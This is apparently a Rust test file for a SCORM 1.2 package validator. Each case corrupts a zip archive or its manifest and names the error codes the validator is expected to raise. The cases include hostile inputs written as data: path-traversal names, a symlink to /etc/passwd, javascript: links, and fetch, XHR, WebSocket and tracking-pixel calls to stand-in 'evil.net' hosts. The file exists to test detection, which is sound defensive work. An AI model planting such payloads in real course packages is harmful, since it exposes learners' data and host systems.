//! SCORM 1.2, and what is asked of every archive and page.

use crate::Case;
use crate::packages::{Entry, MANIFEST, archive, behind, second_name};

/// One change each, by the letter of the codes.
pub const CASES: &[Case] = &[
    ("no zip", &["Z001"], |p| p.after = |b| *b = b"Rar!\x1a\x07".to_vec()),
    ("cut in half", &["Z048"], |p| p.after = |b| b.truncate(b.len() / 2)),
    ("empty", &["Z049"], |p| p.after = Vec::clear),
    ("a manifest alone", &["Z050"], |p| p.after = |b| *b = MANIFEST.as_bytes().to_vec()),
    ("a record that is none", &["Z002"], |p| {
        p.after = |b| {
            let at = directory(b);
            b[at] = b'x';
        }
    }),
    ("a directory offset that is off by one", &["Z031"], |p| p.after = |b| bump(b, 16)),
    ("bytes before the archive that it does not know of", &["Z031"], |p| {
        p.after = |b| drop(b.splice(..0, *b"%PDF-1.7"))
    }),
    ("a local header that names another file", &["Z033"], |p| p.after = |b| b[30] = b'x'),
    ("a packed size that follows the bytes", &[], |p| {
        described(p, true, 0);
        p.after = |b| {
            half_known(b);
        }
    }),
    ("a packed size that follows the bytes, and another size before them", &["Z034"], |p| {
        described(p, true, 0);
        p.after = |b| {
            let header = half_known(b);
            b[header + 22] ^= 1;
        }
    }),
    ("a local header of another method", &["Z034"], |p| p.after = |b| b[8] = 8),
    ("a local header of another size", &["Z034"], |p| p.after = |b| b[22] ^= 1),
    ("a local header of another checksum", &["Z034"], |p| p.after = |b| b[14] ^= 1),
    ("encrypted in the local header alone", &["Z034"], |p| p.after = |b| b[6] |= 1),
    ("one entry more than counted", &["Z032"], |p| p.after = |b| bump(b, 10)),
    ("one entry more than counted, twice", &["Z032"], |p| {
        p.after = |b| {
            bump(b, 8);
            bump(b, 10);
        }
    }),
    ("the second of two disks", &["Z030"], |p| p.after = |b| bump(b, 4)),
    ("a directory on another disk", &["Z030"], |p| p.after = |b| bump(b, 6)),
    ("a file on another disk", &["Z030"], |p| {
        p.after = |b| {
            let at = directory(b);
            b[at + 34] = 1;
        }
    }),
    ("a descriptor", &[], |p| described(p, true, 0)),
    ("a descriptor without signature", &[], |p| described(p, false, 0)),
    ("a descriptor that lies", &["Z035"], |p| described(p, true, 1)),
    ("a descriptor without signature that lies", &["Z035", "Z036"], |p| described(p, false, 1)),
    ("no descriptor where there is to be one", &["Z035"], |p| p.entries[0].flags = 8),
    ("bytes between files", &["Z036"], |p| p.entries[0].behind = b"hidden".to_vec()),
    ("bytes behind the archive", &["Z036"], |p| p.after = |b| b.extend(b"more")),
    ("a PDF before the zip", &["Z036"], |p| p.after = |b| *b = behind(b"%PDF-1.7\n", b)),
    ("an archive before the archive", &["Z037"], |p| p.after = |b| *b = behind(&archive(&[]), b)),
    ("a comment that is an end", &["Z037"], |p| {
        p.after = |b| {
            bump(b, 20);
            let at = b.len() - 2;
            b[at] = 22;
            b.extend(archive(&[]));
        }
    }),
    ("a second name", &["Z038"], |p| p.entries[0].extra = second_name(b"app.js", "evil.js")),
    ("a second name that leads outside", &["Z011"], |p| p.entries[0].extra = second_name(b"app.js", "../evil.js")),
    ("a second name that is the first", &[], |p| p.entries[0].extra = second_name(b"app.js", "app.js")),
    ("a second name for another name", &[], |p| p.entries[0].extra = second_name(b"old.js", "evil.js")),
    ("a second name for an encoding that is not said", &["Z016"], |p| {
        p.listed("é.txt", b"");
        p.entries[3].name = b"\x82.txt".to_vec();
        p.entries[3].flags = 0;
        p.entries[3].extra = second_name(b"\x82.txt", "é.txt");
    }),
    ("a zip64 end", &["Z046"], |p| {
        p.after = |b| {
            let at = b.len() - 22;
            b.splice(at..at, *b"PK\x06\x070123456789abcdef");
        }
    }),
    ("names of 18 MB", &["Z047"], |p| {
        let long = "x".repeat(60_000);
        p.entries.extend((0..300).map(|n| Entry::stored(&format!("{long}{n}"), b"")));
    }),
    ("encrypted", &["Z003"], |p| p.entries[0].flags = 1),
    ("zip64 size", &["Z004"], |p| p.entries[0].size = u32::MAX),
    ("zip64 extra field", &["Z004"], |p| p.entries[0].extra = vec![1, 0, 0, 0]),
    ("lzma", &["Z005"], |p| p.entries[0].method = 14),
    ("two files in the same bytes", &["Z006"], |p| {
        let mut twin = p.entries[0].clone();
        twin.shares = Some(1);
        p.entries.push(twin);
    }),
    ("20 001 files", &["Z007"], |p| p.entries = vec![Entry::stored("a", b""); 20_001]),
    ("600 MB declared", &["Z008"], |p| p.entries[0].size = 600 << 20),
    ("declared too small", &["Z009"], |p| p.entries[0].size -= 1),
    ("declared too large", &["Z009"], |p| p.entries[0].size += 1),
    ("wrong checksum", &["Z010"], |p| p.entries[0].crc ^= 1),
    ("deflate that is none", &["Z010"], |p| p.entries[0].method = 8),
    ("up and away", &["Z011", "M032"], |p| p.unlisted("a/../../evil", b"")),
    ("absolute", &["Z011", "M032"], |p| p.unlisted("/etc/evil", b"")),
    ("drive letter", &["Z011", "Z018", "M032"], |p| p.unlisted("c:evil", b"")),
    ("up and away by backslash", &["Z011", "M032"], |p| p.unlisted("..\\evil", b"")),
    ("backslash", &["Z012"], |p| p.listed("a\\b.txt", b"")),
    ("doubled", &["Z013"], |p| p.unlisted("style.css", b"")),
    ("doubled by case", &["Z014", "Z018"], |p| p.listed("Style.css", b"")),
    ("doubled after cleaning", &["Z015", "Z018"], |p| p.listed("sty'le.css", b"")),
    ("accent", &["Z016"], |p| p.listed("é.txt", b"")),
    ("accent without flag", &["Z017"], |p| {
        p.listed("é.txt", b"");
        p.entries[3].flags = 0;
    }),
    ("cp437", &["Z017", "M032"], |p| {
        let mut entry = Entry::stored("x.txt", b"");
        entry.name[0] = 0x82;
        p.entries.push(entry);
    }),
    ("accents in two ways", &["Z043", "Z016"], |p| {
        p.listed("é.txt", b"");
        p.listed("e\u{301}.txt", b"");
    }),
    ("a tilde", &["Z029", "Z018"], |p| p.listed("vendors~main.js", b"")),
    ("a zero byte", &["Z039", "Z018", "M032"], |p| p.unlisted("a\0.txt", b"")),
    ("letters that run backwards", &["Z039", "Z016"], |p| p.listed("a\u{202e}gpj.js", b"")),
    ("a path with a dot", &["Z040"], |p| p.manifest_name = "./imsmanifest.xml"),
    ("a path with an empty part", &["Z040", "M032"], |p| p.unlisted("a//b.txt", b"")),
    ("the same path with a dot", &["Z013", "Z040"], |p| p.unlisted("./style.css", b"")),
    ("no name", &["Z041"], |p| p.unlisted("", b"")),
    ("a file that is a folder", &["Z044"], |p| {
        p.listed("a", b"");
        p.listed("a/b.txt", b"");
    }),
    ("capitals and blanks", &["Z018"], |p| p.listed("A b.txt", b"")),
    ("device", &["Z019"], |p| p.listed("aux.txt", b"")),
    ("port", &["Z019"], |p| p.listed("com1", b"")),
    ("question mark", &["Z019", "Z018"], |p| p.listed("a?.txt", b"")),
    ("dot at the end", &["Z019"], |p| p.listed("a.", b"")),
    ("php", &["Z020"], |p| p.listed("a.php", b"")),
    ("symbolic link", &["Z021"], |p| {
        p.listed("a.txt", b"/etc/passwd");
        p.entries[3].mode = 0o120_777;
    }),
    ("a pipe", &["Z042"], |p| {
        p.listed("a.txt", b"");
        p.entries[3].mode = 0o010_644;
    }),
    ("a device", &["Z042"], |p| {
        p.listed("a.txt", b"");
        p.entries[3].mode = 0o020_644;
    }),
    ("a folder with bytes", &["Z045"], |p| p.unlisted("media/", b"x")),
    ("folder", &["Z022"], |p| p.unlisted("media/", b"")),
    ("101 MB", &["Z023"], |p| p.listed("a.mp4", &vec![0; 101 << 20])),
    ("zip in zip", &["Z024"], |p| p.listed("a.zip", &archive(&[]))),
    ("macOS litter", &["Z018", "Z025", "M032"], |p| p.unlisted("__MACOSX/._a", b"")),
    ("long name", &["Z026"], |p| p.listed(&"a".repeat(256), b"")),
    ("33 MB of script", &["Z027"], |p| p.listed("b.js", &vec![b' '; 33 << 20])),
    ("51 times the same", &["Z022", "Z028"], |p| (0..51).for_each(|n| p.unlisted(&format!("a{n}/"), b""))),
    // The manifest.
    ("no manifest", &["M001"], |p| {
        p.manifest_name = "";
        p.entries[1].name = b"start.html".to_vec();
    }),
    ("manifest in a folder", &["M002"], |p| p.manifest_name = "module/imsmanifest.xml"),
    ("manifest in capitals", &["M003", "Z018"], |p| p.manifest_name = "IMSMANIFEST.XML"),
    ("the manifest of another kind", &["M009"], |p| p.manifest_name = "cmi5.xml"),
    ("h5p", &["M039"], |p| p.manifest_name = "h5p.json"),
    ("aicc", &["M039"], |p| p.manifest_name = "course.crs"),
    ("an attribute twice", &["M004"], |p| p.manifest("version=\"1.0\"", "version=\"1.0\" version=\"1.0\"")),
    ("a tag that is not closed", &["M050"], |p| p.manifest("</resources>", "")),
    ("bare ampersand", &["M049"], |p| p.manifest("Module", "Q&A")),
    ("ampersand before a blank", &["M049"], |p| p.manifest("Module", "Q & A")),
    ("a code of HTML", &["M069"], |p| p.manifest("L'été", "L'&eacute;t&eacute;")),
    ("prefix not declared", &["M051"], |p| p.manifest("xmlns:adlcp", "xmlns:other")),
    ("empty manifest", &["M048"], |p| p.manifest.clear()),
    ("a manifest of blanks", &["M048"], |p| p.manifest = b" \n".to_vec()),
    ("an empty line before the XML", &["M047"], |p| p.manifest("<?xml", "\n<?xml")),
    ("a manifest that is cut", &["M070"], |p| p.manifest("</manifest>", "")),
    ("doctype", &["M005"], |p| p.manifest("<manifest", "<!DOCTYPE manifest [<!ENTITY a 'b'>]>\n<manifest")),
    ("utf-16", &["M006"], |p| {
        let text = String::from_utf8(p.manifest.clone()).expect("text").replace("UTF-8", "UTF-16");
        p.manifest = [0xfeff].into_iter().chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect();
    }),
    ("utf-16 without mark", &["M006"], |p| {
        let text = String::from_utf8(p.manifest.clone()).expect("text").replace("UTF-8", "UTF-16");
        p.manifest = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    }),
    ("utf-8 that says utf-16", &["M046"], |p| p.manifest("encoding=\"UTF-8\"", "encoding=\"utf-16\"")),
    ("utf-8 with a mark that says utf-16", &["M008", "M046"], |p| {
        p.manifest("<?xml version=\"1.0\" encoding=\"UTF-8\"", "\u{feff}<?xml version=\"1.0\" encoding=\"UTF-16\"");
    }),
    ("utf-16 that says utf-8", &["M046"], |p| {
        let text = String::from_utf8(p.manifest.clone()).expect("text");
        p.manifest = [0xfeff].into_iter().chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect();
    }),
    ("utf-16 that breaks off", &["M007"], |p| p.manifest = b"\xff\xfe\0\xd8<\0".to_vec()),
    ("latin-1", &["M006"], |p| {
        let text = String::from_utf8(p.manifest.clone()).expect("text").replace("UTF-8", "ISO-8859-1");
        p.manifest = text.chars().map(|c| c as u8).collect();
    }),
    ("latin-1 that says utf-8", &["M007"], |p| {
        p.manifest = String::from_utf8_lossy(&p.manifest).chars().map(|c| c as u8).collect();
    }),
    ("byte order mark", &["M008"], |p| p.manifest("<?xml", "\u{feff}<?xml")),
    ("another namespace", &["M009"], |p| p.manifest("imscp_rootv1p1p2", "imscp_rootv9")),
    ("another root", &["M009"], |p| p.manifest = b"<html/>".to_vec()),
    ("another prefix for ADL", &["M010"], |p| {
        p.manifest("xmlns:adlcp", "xmlns:sc");
        p.manifest("adlcp:scormtype", "sc:scormtype");
    }),
    ("a prefix for content packaging", &["M010"], |p| {
        p.manifest("xmlns:adlcp", "xmlns:cp=\"http://www.imsproject.org/xsd/imscp_rootv1p1p2\" xmlns:adlcp");
        p.manifest("<file href=\"app.js\"/>", "<cp:file href=\"app.js\"/>");
    }),
    ("another ADL namespace", &["M011", "M068"], |p| p.manifest("adlcp_rootv1p2", "adlcp_rootv1p1")),
    ("another ADL namespace besides", &["M011"], |p| {
        p.manifest("xmlns:adlcp", "xmlns:old=\"http://www.adlnet.org/xsd/adlcp_rootv1p1\" xmlns:adlcp");
        p.manifest("<file href=\"style", "<file old:scormtype=\"asset\" href=\"style");
    }),
    ("schema", &["M012"], |p| p.manifest("ADL SCORM", "IMS Content")),
    ("schema missing", &["M054"], |p| p.manifest("<schema>ADL SCORM</schema>", "")),
    ("version of 2004", &["M013"], |p| p.manifest(">1.2<", ">2004 3rd Edition<")),
    ("version with blanks", &["M013"], |p| p.manifest(">1.2<", "> 1.2 <")),
    ("no version", &["M055"], |p| p.manifest("<schemaversion>1.2</schemaversion>", "")),
    ("no organization", &["M014"], |p| {
        p.manifest("<organization identifier=\"o1\">", "<!--");
        p.manifest("</organization>", "-->");
        p.manifest(" default=\"o1\"", "");
    }),
    ("unknown default", &["M015"], |p| p.manifest("default=\"o1\"", "default=\"o2\"")),
    ("no default", &["M016"], |p| p.manifest(" default=\"o1\"", "")),
    ("no item", &["M017"], |p| {
        p.manifest("<item", "<!--");
        p.manifest("</item>", "-->");
    }),
    ("no title", &["M018"], |p| p.manifest("<title>Module</title>", "")),
    ("empty title", &["M018"], |p| p.manifest("<title>Module</title>", "<title> </title>")),
    ("dangling reference", &["M019"], |p| p.manifest("identifierref=\"r1\"", "identifierref=\"r2\"")),
    ("reference to an item", &["M019"], |p| p.manifest("identifierref=\"r1\"", "identifierref=\"o1\"")),
    ("doubled identifier", &["M020"], |p| p.manifest("item identifier=\"i1\"", "item identifier=\"o1\"")),
    ("identifier with blank", &["M021"], |p| p.manifest("\"i1\"", "\"i 1\"")),
    ("identifier with digit", &["M021"], |p| p.manifest("\"i1\"", "\"1i\"")),
    ("no identifier", &["M066"], |p| p.manifest("identifier=\"i1\" ", "")),
    ("identifier with accent", &["M022"], |p| p.manifest("\"i1\"", "\"été\"")),
    ("item without resource", &["M023"], |p| {
        p.manifest("</item>", "</item><item identifier=\"i2\"><title>B</title></item>")
    }),
    ("type", &["M024"], |p| p.manifest("webcontent", "text/html")),
    ("no type", &["M067"], |p| p.manifest(" type=\"webcontent\"", "")),
    ("a third kind of resource", &["M025"], |p| p.manifest("\"sco\"", "\"SCO\"")),
    ("no scormtype", &["M068"], |p| p.manifest("adlcp:scormtype=\"sco\" ", "")),
    ("no href", &["M026"], |p| p.manifest(" href=\"index.html\">", ">")),
    ("a file without href", &["M063"], |p| p.manifest("<file href=\"style", "<file/><file href=\"style")),
    ("file missing", &["M027"], |p| p.manifest("<file href=\"style", "<file href=\"other.css\"/><file href=\"style")),
    ("external metadata missing", &["M027"], |p| {
        p.manifest("</item>", "<metadata><adlcp:location>a.xml</adlcp:location></metadata></item>");
    }),
    ("case of a file", &["M028"], |p| p.manifest("<file href=\"style.css\"", "<file href=\"STYLE.css\"")),
    ("resource elsewhere", &["M029"], |p| p.manifest(" href=\"index.html\">", " href=\"https://www.evil.net/\">")),
    ("resource and file elsewhere, and no script", &["M029", "M032"], |p| {
        p.manifest(" href=\"index.html\">", " href=\"https://www.evil.net/\">");
        p.manifest("<file href=\"index.html\"/>", "<file href=\"https://www.evil.net/\"/>");
        p.entries[0] = Entry::stored("app.js", b"");
    }),
    ("a blank in an address", &["M056", "Z018"], |p| {
        p.manifest("<file href=\"style", "<file href=\"my pictures/a b.png\"/><file href=\"style");
        p.unlisted("my pictures/a b.png", b"");
    }),
    ("a blank as a code", &["Z018"], |p| p.listed("a b.png", b"")),
    ("blanks around an address", &["M057"], |p| p.manifest("href=\"style.css\"", "href=\" style.css \"")),
    ("an empty address", &["M062"], |p| p.manifest("<file href=\"style", "<file href=\"\"/><file href=\"style")),
    ("a code that is none", &["M030"], |p| p.manifest(" href=\"index.html\">", " href=\"index.html%zz\">")),
    ("one missing file in two places", &["M027"], |p| {
        p.manifest(" href=\"index.html\">", " href=\"start.html\">");
        p.manifest("<file href=\"index.html\"/>", "<file href=\"start.html\"/><file href=\"index.html\"/>");
    }),
    ("a place of metadata that leads out", &["M060"], |p| {
        p.manifest("</item>", "<metadata><adlcp:location>../a.xml</adlcp:location></metadata></item>");
    }),
    ("leading slash", &["M058"], |p| p.manifest(" href=\"index.html\">", " href=\"/index.html\">")),
    ("way out", &["M060"], |p| p.manifest(" href=\"index.html\">", " href=\"../index.html\">")),
    ("backslash in href", &["M059"], |p| p.manifest(" href=\"index.html\">", " href=\"a\\index.html\">")),
    ("script address", &["M061"], |p| p.manifest(" href=\"index.html\">", " href=\"javascript:x\">")),
    ("launch file not listed", &["M031"], |p| p.manifest("<file href=\"index.html\"/>", "")),
    ("file not listed", &["M032"], |p| p.unlisted("b.txt", b"")),
    ("element of another version", &["M033"], |p| {
        p.manifest("</item>", "<adlcp:completionThreshold/></item>");
    }),
    ("an attribute of nobody", &["M033"], |p| p.manifest("<item ", "<item colour=\"red\" ")),
    ("dependency on nothing", &["M043"], |p| p.manifest("</resource>", "<dependency/></resource>")),
    ("text between elements", &["M044"], |p| {
        p.manifest("<organizations default=\"o1\">", "<organizations default=\"o1\">x")
    }),
    ("long title", &["M045"], |p| p.manifest(">Module<", &format!(">{}<", "é".repeat(201)))),
    ("element of nobody", &["M033"], |p| p.manifest("</item>", "<rating/></item>")),
    ("camel case", &["M033"], |p| p.manifest("</item>", "<adlcp:dataFromLMS>x</adlcp:dataFromLMS></item>")),
    ("metadata before the title", &["M034"], |p| p.manifest("<title>Module", "<metadata/><title>Module")),
    ("two organizations elements", &["M065"], |p| {
        p.manifest("</manifest>", "<organizations/></manifest>");
    }),
    ("mastery above 100", &["M035", "L008"], |p| {
        p.manifest("</item>", "<adlcp:masteryscore>101</adlcp:masteryscore></item>")
    }),
    ("time", &["M035"], |p| p.manifest("</item>", "<adlcp:maxtimeallowed>90 min</adlcp:maxtimeallowed></item>")),
    ("prerequisites", &["M035"], |p| {
        p.manifest("</item>", "<adlcp:prerequisites type=\"x\">a</adlcp:prerequisites></item>")
    }),
    ("a prerequisite that is not there", &["M071"], |p| {
        let script = "i1 &amp; ~i9 | 1*{i1, i1 = \"passed\"}";
        p.manifest(
            "</item>",
            &format!("<adlcp:prerequisites type=\"aicc_script\">{script}</adlcp:prerequisites></item>"),
        )
    }),
    ("prerequisites that are there", &[], |p| {
        let script = "i1 | 1*{i1, i1 &lt;&gt; &quot;not attempted&quot;}";
        p.manifest(
            "</item>",
            &format!("<adlcp:prerequisites type=\"aicc_script\">{script}</adlcp:prerequisites></item>"),
        )
    }),
    ("two SCOs", &["M036"], |p| {
        p.manifest("</item>", "</item><item identifier=\"i2\" identifierref=\"r2\"><title>B</title></item>");
        let second = r#"</resource><resource identifier="r2" type="webcontent" adlcp:scormtype="sco" href="index.html"><file href="index.html"/></resource>"#;
        p.manifest("</resource>", second);
    }),
    ("half of the metadata", &["M037"], |p| {
        p.manifest("<metametadata><metadatascheme>ADL SCORM 1.2</metadatascheme></metametadata>", "<metametadata/>");
    }),
    ("manifest in the manifest", &["M040"], |p| {
        p.manifest("</manifest>", "<manifest identifier=\"m2\"><organizations/><resources/></manifest></manifest>");
    }),
    ("a manifest of 5 MB", &["M052"], |p| p.manifest(">Module<", &format!("><!--{}-->Module<", "x".repeat(5 << 20)))),
    ("100 001 tags", &["M053"], |p| p.manifest("</item>", &format!("{}</item>", "<a/>".repeat(100_001)))),
    ("too many attributes", &["M041"], |p| {
        let all: String = (0..1_100).map(|n| format!(" a{n}=''")).collect();
        p.manifest("<item", &format!("<item{all}"));
    }),
    ("assets only", &["M042", "L018"], |p| p.manifest("\"sco\"", "\"asset\"")),
    // What Moodle does.
    ("no tracking", &["L001"], |p| p.entries[0] = Entry::stored("app.js", b"var a = 1;")),
    ("very long title", &["L002", "M045"], |p| p.manifest(">Module<", &format!(">{}<", "é".repeat(256)))),
    ("long identifier", &["L002"], |p| p.manifest("\"i1\"", &format!("\"i{}\"", "1".repeat(255)))),
    ("numeric reference", &["L003"], |p| p.manifest("L'été &amp;", "L&#39;été &amp;")),
    ("cdata", &["L004"], |p| p.manifest(">Module<", "><![CDATA[Q&A]]><")),
    ("title zero", &["L005"], |p| p.manifest(">Module<", ">0<")),
    ("title on three lines", &["L006"], |p| p.manifest(">Module<", ">\n  Module\n<")),
    ("base", &["L007"], |p| {
        p.manifest("<resources>", "<resources xml:base=\"a/\">");
        p.entries.iter_mut().for_each(|e| e.name = [b"a/", &e.name[..]].concat());
    }),
    ("mastery", &["L008"], |p| p.manifest("</item>", "<adlcp:masteryscore>70</adlcp:masteryscore></item>")),
    ("mjs", &["L009"], |p| p.listed("b.mjs", b"")),
    ("unload", &["L010"], |p| p.append("app.js", "addEventListener(\"unload\", f);")),
    ("onbeforeunload", &["L010"], |p| p.append("app.js", "window.onbeforeunload = f;")),
    ("attribute onunload", &["L010"], |p| p.append("index.html", "<body onunload=\"f()\">")),
    ("names of 2004", &["L011"], |p| p.append("app.js", "api.LMSSetValue('cmi.completion_status', x)")),
    ("description of an interaction", &["L011"], |p| p.append("app.js", "f('cmi.interactions.0.description', x)")),
    ("an element of neither edition", &["L033"], |p| {
        p.append("app.js", "api.LMSSetValue('cmi.core.completion_status', x)")
    }),
    ("an element spelt wrong", &["L033"], |p| {
        p.append("app.js", "api.LMSSetValue('cmi.core.lessonstatus', 'completed')")
    }),
    ("an element spelt wrong under a name", &["L033"], |p| p.append("app.js", "var a = 'cmi.core.lessonstatus';")),
    ("an element spelt wrong in a wrapper", &["L033"], |p| {
        p.append("app.js", "doLMSGetValue('cmi.interactions.0.respone')")
    }),
    ("what is no element", &[], |p| {
        let keys = "store.set('cmi.settings', 1); var a = 'cmi.core'; get('cmi.interactions.' + n + '.id'); f('cmi.objectives.n.id');";
        p.append("app.js", keys);
        p.append("app.js", "log('cmi.core.x is no element'); api.LMSSetValue('cmi.core.' + name, x); var b = 'cmi.x';");
        p.append(
            "app.js",
            "api.LMSGetValue('cmi.objectives._count'); api.LMSGetValue('cmi.student_data.mastery_score');",
        );
    }),
    ("setting what is read only", &["L034"], |p| p.append("app.js", "api.LMSSetValue('cmi.core.total_time', x)")),
    ("setting what is read only by a wrapper", &["L034"], |p| p.append("app.js", "scorm.set('cmi.core.credit', x)")),
    ("a map that knows an element", &[], |p| {
        p.append("app.js", "map.set('cmi.core.credit', 'x'); map.get('cmi.core.exit')")
    }),
    ("reading what is write only", &["L035"], |p| p.append("app.js", "api.LMSGetValue('cmi.interactions.0.id')")),
    ("seconds", &["L036"], |p| p.append("app.js", "api.LMSSetValue('cmi.core.session_time', '125')")),
    ("the form of 2004", &["L036"], |p| p.append("app.js", "api.LMSSetValue('cmi.core.session_time', 'PT2M5S')")),
    ("a good time", &[], |p| p.append("app.js", "api.LMSSetValue('cmi.core.session_time', '00:02:05.5')")),
    ("a time that is made", &[], |p| p.append("app.js", "api.LMSSetValue('cmi.core.session_time', 'PT' + s)")),
    ("a result of 2004", &["L037"], |p| {
        p.append("app.js", "api.LMSSetValue('cmi.interactions.0.result', 'incorrect')")
    }),
    ("a score of 120", &["L037"], |p| p.append("app.js", "api.LMSSetValue('cmi.core.score.raw', '120')")),
    ("a table of names", &[], |p| {
        p.append("app.js", "rename('cmi.core.lesson_status', 'complete'); x('cmi.core.exit', 'y')")
    }),
    ("exit normal", &["L012"], |p| p.append("app.js", "api.LMSSetValue('cmi.core.exit', 'normal')")),
    ("status complete", &["L013"], |p| p.append("app.js", "set('cmi.core.lesson_status', 'complete')")),
    ("the other API", &["L014"], |p| {
        p.entries[0] =
            Entry::stored("app.js", b"var a = w.API_1484_11; a.Initialize(''); a.SetValue('cmi.location', 'x')");
    }),
    ("no finish", &["L015"], |p| p.entries[0] = Entry::stored("app.js", b"api.LMSInitialize('')")),
    ("tags in a title", &["L016"], |p| p.manifest(">Module<", ">&lt;b>Module&lt;/b><")),
    ("hidden", &["L017"], |p| p.manifest("\"true\"", "\"false\"")),
    ("asset in the contents", &["L018"], |p| {
        p.manifest("</item>", "</item><item identifier=\"i2\" identifierref=\"r2\"><title>B</title></item>");
        let second = r#"</resource><resource identifier="r2" type="webcontent" adlcp:scormtype="asset" href="index.html"><file href="index.html"/></resource>"#;
        p.manifest("</resource>", second);
    }),
    // Privacy.
    ("font", &["P001"], |p| p.append("style.css", "@import url(https://fonts.evil.net/a.css);")),
    ("image in a style", &["P001"], |p| p.append("index.html", "<p style=\"background:url('//www.evil.net/a')\">")),
    ("script from elsewhere", &["P001"], |p| p.append("index.html", "<SCRIPT SRC=https://cdn.evil.net/a.js></SCRIPT>")),
    ("srcset", &["P001"], |p| p.append("index.html", "<img srcset=\"a.png 1x, https://www.evil.net/a.png 2x\">")),
    ("fetch", &["P001"], |p| p.append("app.js", "fetch(`https://www.evil.net/${a}`)")),
    ("fetch in a handler", &["P001"], |p| p.append("index.html", "<p onclick=\"fetch('https://www.evil.net/')\">")),
    ("request", &["P001"], |p| p.append("app.js", "x.open('POST', 'https://www.evil.net/')")),
    ("socket", &["P001"], |p| p.append("app.js", "new WebSocket('wss://www.evil.net/')")),
    ("pixel", &["P001"], |p| p.append("index.html", "<script>new Image().src='//www.evil.net/a.gif'</script>")),
    ("form", &["P002"], |p| p.append("index.html", "<form action=\"https://www.evil.net/\">")),
    ("key in the manifest", &["P006"], |p| p.manifest(">Un module<", ">AKIAABCDEFGHIJ234567<")),
    ("address", &["P003"], |p| p.append("app.js", "var a = 'https://www.elsewhere.net/';")),
    ("storage", &["P004"], |p| p.append("app.js", "localStorage.setItem('notes', a)")),
    ("cookie", &["P005"], |p| p.append("app.js", "document.cookie = 'a=b'")),
    ("basic", &["P006"], |p| p.append("app.js", "h['Authorization'] = 'Basic dXNlcjpwYXNzd29yZA==';")),
    ("launch address", &["P006"], |p| {
        p.append("app.js", "var q = '?endpoint=x&auth=Basic%20dXNlcjpwYXNzd29yZA%3D%3D';")
    }),
    ("aws", &["P006"], |p| p.listed("a.json", br#"{"k": "AKIAABCDEFGHIJ234567"}"#)),
    ("named secret", &["P006"], |p| p.append("app.js", "var c = { client_secret: 'a1b2c3d4e5f6a7b8c9' };")),
    ("name of the learner", &["P007"], |p| p.append("app.js", "api.LMSGetValue('cmi.core.student_name')")),
    ("camera", &["P008"], |p| p.append("app.js", "navigator.mediaDevices.getUserMedia({})")),
];

/// A file whose checksum and sizes follow its bytes, with so much added to its size.
fn described(pack: &mut crate::packages::Pack, signed: bool, more: u32) {
    let entry = &mut pack.entries[0];
    entry.flags = 8;
    let signature: &[u8] = if signed { b"PK\x07\x08" } else { b"" };
    let sizes = [entry.packed.len() as u32, entry.size + more];
    let numbers = [entry.crc, sizes[0], sizes[1]].map(u32::to_le_bytes);
    entry.behind = [signature, &numbers.concat()].concat();
}

/// Leaves the checksum and the packed size out of the header in front of the file of [`described`], and not its size, as libarchive does.
fn half_known(bytes: &mut [u8]) -> usize {
    let header = 1 + bytes[1..].windows(4).position(|four| four == b"PK\x03\x04").expect("the second file");
    bytes[header + 14..header + 22].fill(0);
    header
}

/// Where the directory begins.
fn directory(bytes: &[u8]) -> usize {
    bytes.windows(4).position(|four| four == b"PK\x01\x02").expect("a directory")
}

/// Adds one to a byte of the end-of-directory record.
fn bump(bytes: &mut [u8], offset: usize) {
    let at = bytes.len() - 22 + offset;
    bytes[at] = bytes[at].wrapping_add(1);
}
